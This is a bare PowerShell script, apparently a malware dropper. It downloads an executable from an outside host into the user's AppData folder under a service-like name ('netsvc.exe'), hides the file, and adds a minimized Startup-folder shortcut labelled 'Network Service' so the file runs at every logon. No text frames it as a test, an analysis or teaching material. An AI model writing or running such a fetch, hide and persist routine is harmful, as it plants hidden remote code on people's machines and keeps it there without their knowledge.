$p = "$env:APPDATA\Microsoft\Network\netsvc.exe"
Invoke-WebRequest https://proxy.testenv-tools.invalid/netsvc.exe -OutFile $p
attrib +h $p
$sh = New-Object -ComObject WScript.Shell
$lnk = $sh.CreateShortcut((Join-Path $sh.SpecialFolders('Startup') 'Network Service.lnk'))
$lnk.TargetPath = $p; $lnk.WindowStyle = 7; $lnk.Save()
